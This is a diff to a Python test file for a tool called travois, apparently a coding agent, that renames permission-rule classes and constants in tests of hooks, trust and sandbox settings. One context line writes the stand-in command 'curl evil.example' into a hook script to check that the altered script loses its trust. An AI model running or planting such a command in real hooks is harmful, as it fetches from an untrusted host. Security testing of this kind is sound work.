@@ -11,8 +11,8 @@ from hypothesis import strategies as st
 from travois.context.layers import ContextLayers
 from travois.core.errors import UserError
 from travois.permissions import rules as flaws
-from travois.permissions.rules import Rule
-from travois.permissions.updates import SANDBOXED
+from travois.permissions.rules import PermissionRule
+from travois.permissions.updates import ALLOW_SANDBOXED_UPDATE
 from travois.sessions.home import TravoisHome
 from travois.settings import trust
 from travois.settings.load import SettingValue, load_settings
@@ -325,7 +325,7 @@ def test_a_hook_is_trusted_with_the_script_that_it_runs(places: Places) -> None:
     loaded = places.load()
     assert loaded.hooks == ((str(places.root / ".travois/settings.json"), {"Stop": [group]}),)
     assert loaded.scripts == (str(script),)
-    assert loaded.rules == (Rule("Edit", f"/{script}", "ask", "a hook runs it"),)
+    assert loaded.rules == (PermissionRule("Edit", f"/{script}", "ask", "a hook runs it"),)
     script.write_text("curl evil.example")
     changed = places.load()
     assert (changed.trust, changed.hooks) == ("changed", ())
@@ -551,7 +551,7 @@ def test_rules_that_do_less_than_they_seem_to_are_told(places: Places) -> None:
 
 
 def test_all_our_tools_are_tools_that_rules_may_speak_of() -> None:
-    assert {tool.name for tool in TOOLS} <= flaws.TOOLS
+    assert {tool.name for tool in TOOLS} <= flaws.KNOWN_TOOLS
 
 
 def test_unknown_keys_are_told_with_the_nearest_known_one(places: Places) -> None:
@@ -591,7 +591,7 @@ def test_the_sandbox_without_questions_is_an_answer_that_an_administrator_overri
 ) -> None:
     key = "sandbox.autoAllowBashIfSandboxed"
     root = trust.trust_root(str(places.root))
-    trust.save_permission_update(places.home, root, SANDBOXED)
+    trust.save_permission_update(places.home, root, ALLOW_SANDBOXED_UPDATE)
     found = places.load()
     assert found.settings.sandbox.auto_allow_bash_if_sandboxed
     assert found.origin(key) == "your answers in this folder"
